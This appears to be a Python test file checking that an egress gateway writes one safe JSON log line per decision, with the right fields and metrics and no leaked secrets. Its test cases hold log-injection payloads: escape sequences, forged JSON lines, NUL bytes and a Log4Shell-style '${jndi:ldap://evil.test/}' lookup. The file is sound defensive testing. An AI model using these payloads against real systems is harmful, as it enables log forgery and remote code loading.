"""The log: one JSON line for each decision whatever a client sends, and no secret in it."""

import json
import re
from dataclasses import dataclass
from typing import Any

from tests.attack.cases import Case, single, table
from tests.attack.checks import assert_open, decision_since
from tests.attack.rig.gateway import Gateway, wait_for
from tests.attack.rig.world import DESK, LAB_SECRET, SECRET, World

TOPIC = "The log"
FIELDS = {"time", "event", "session", "source", "host", "port", "verdict", "rule", "field", "seconds"}
PRINTABLE = re.compile(rb"[\x20-\x7e]*")


@dataclass(frozen=True)
class Dirt(Case):
    """Bytes that are meant to end up in the log."""

    data: bytes


def connect(target: bytes, header: bytes = b"") -> bytes:
    """A CONNECT request with these bytes in it."""
    return b"CONNECT " + target + b" HTTP/1.1\r\nHost: a\r\n" + header + b"\r\n"


DIRT = [
    Dirt(
        "log-escape",
        "a terminal's escape sequence in a name",
        "one JSON line in ASCII",
        connect(b"\x1b[2J\x1b]0;evil\x07.test:443"),
    ),
    Dirt(
        "log-line-break",
        "a line break and a forged line",
        "one JSON line in ASCII",
        connect(b'evil.test:443\n{"verdict":"allowed"}'),
    ),
    Dirt("log-carriage-return", "a carriage return", "one JSON line in ASCII", connect(b"evil.test\rallowed.test:443")),
    Dirt(
        "log-quote",
        "a quotation mark and a forged member",
        "one JSON line in ASCII",
        connect(b'evil.test","verdict":"allowed","x":":443'),
    ),
    Dirt(
        "log-utf-8",
        "text that runs from right to left",
        "one JSON line in ASCII",
        connect("\u202eevil.test:443".encode()),
    ),
    Dirt("log-not-utf-8", "bytes that are no text", "one JSON line in ASCII", connect(b"\xff\xfe\xc3\x28.test:443")),
    Dirt("log-del", "DEL and C1 control characters", "one JSON line in ASCII", connect(b"\x7f\x9b31mevil.test:443")),
    Dirt("log-nul", "zero bytes", "one JSON line in ASCII", connect(b"evil\0.test:443")),
    Dirt(
        "log-header",
        "control characters in a header",
        "one JSON line in ASCII",
        connect(b"evil.test:443", b"User-Agent: \x1b[31m\x07\r\n"),
    ),
    Dirt("log-long", "a target of 15 KB", "one JSON line of a bounded length", connect(b"a" * 15_000 + b":443")),
    Dirt(
        "log-format",
        "placeholders of format strings",
        "one JSON line in ASCII",
        connect(b"{host}%s%n${jndi:ldap://evil.test/}:443"),
    ),
    Dirt(
        "log-path",
        "control characters in a path",
        "one JSON line in ASCII",
        b"GET /model/\x1b[31m HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
]


@table(TOPIC, DIRT)
def test_dirt(case: Dirt, world: World, gateway: Gateway) -> None:
    start = len(gateway.raw_log())
    with world.watch() as seen:
        assert world.desk.send(case.data).status in (400, 403)
    assert seen.places == set()
    decision = decision_since(gateway, start)
    assert decision["verdict"] == "denied"
    (line,) = (line for line in gateway.raw_log()[start:].splitlines() if b'"event": "decision"' in line)
    assert PRINTABLE.fullmatch(line)
    assert len(line) < 2048
    assert_open(world)


@single(
    TOPIC,
    "log-fields",
    "an allowed tunnel and a denied one",
    "who, where, verdict, rule, field, bytes and seconds of each",
)
def test_fields(case: Case, world: World, gateway: Gateway) -> None:
    start = len(gateway.raw_log())
    name = "fields.wild.test"
    assert world.desk.https(name, world.trust).status == 200

    def lines() -> list[dict[str, Any]]:
        return [line for line in gateway.log(start) if line.get("host") == name]

    wait_for("the tunnel's end is in the log", lambda: len(lines()) == 2, seconds=3)
    allowed, end = lines()
    assert allowed.keys() >= FIELDS
    assert (allowed["session"], allowed["source"], allowed["host"], allowed["port"]) == ("desk", DESK, name, 443)
    assert (allowed["verdict"], allowed["field"]) == ("allowed", "config.networking.allowed_hosts[1]")
    assert (end["event"], end["host"]) == ("end", name)
    assert end["bytes_up"] > 300
    assert end["bytes_down"] > 300
    assert end["seconds"] >= 0
    start = len(gateway.raw_log())
    world.desk.connect("evil.test:443")
    denied = decision_since(gateway, start)
    assert denied.keys() >= FIELDS
    assert (denied["session"], denied["host"], denied["verdict"]) == ("desk", "evil.test", "denied")
    assert denied["field"] == "config.networking.allowed_hosts"


@single(TOPIC, "log-metrics", "a denied CONNECT", "one more in the metric of its rule")
def test_metric(case: Case, world: World, gateway: Gateway) -> None:
    def count() -> float:
        pattern = r'^egress_decisions_total\{(?=.*rule="host-not-allowed").*\} (\S+)$'
        return sum(float(value) for value in re.findall(pattern, gateway.admin("/metrics")[1], re.MULTILINE))

    before = count()
    world.desk.connect("evil.test:443")
    assert count() == before + 1


@single(
    TOPIC,
    "log-secrets",
    "credentials in every place of a request, allowed and refused",
    "none of them in the log, the metrics, or `policy`",
)
def test_secrets(case: Case, world: World, gateway: Gateway) -> None:
    mine = "canary-of-the-session-41d0"
    names = ("Authorization: Bearer", "x-api-key:", "Proxy-Authorization: Basic", "Cookie:")
    headers = "Host: a\r\n" + "".join(f"{name} {mine}\r\n" for name in names)
    for line in (
        "GET /model/ HTTP/1.1",
        "GET /lab-model/ HTTP/1.1",
        "GET /inward/ HTTP/1.1",
        "GET http://evil.test/ HTTP/1.1",
        "CONNECT evil.test:443 HTTP/1.1",
        "CONNECT allowed.test:22 HTTP/1.1",
        "CONNECT allowed.test:443 HTTP/3.7",
    ):
        with world.desk.dial() as connection:
            connection.sendall(f"{line}\r\n{headers}\r\n".encode())
            assert connection.recv(4096).startswith(b"HTTP/1.1 ")
    text = gateway.raw_log().decode() + gateway.admin("/metrics")[1] + gateway.run("policy").stdout
    for secret in (SECRET, LAB_SECRET, mine):
        assert secret not in text
    assert json.loads(gateway.run("policy").stdout)
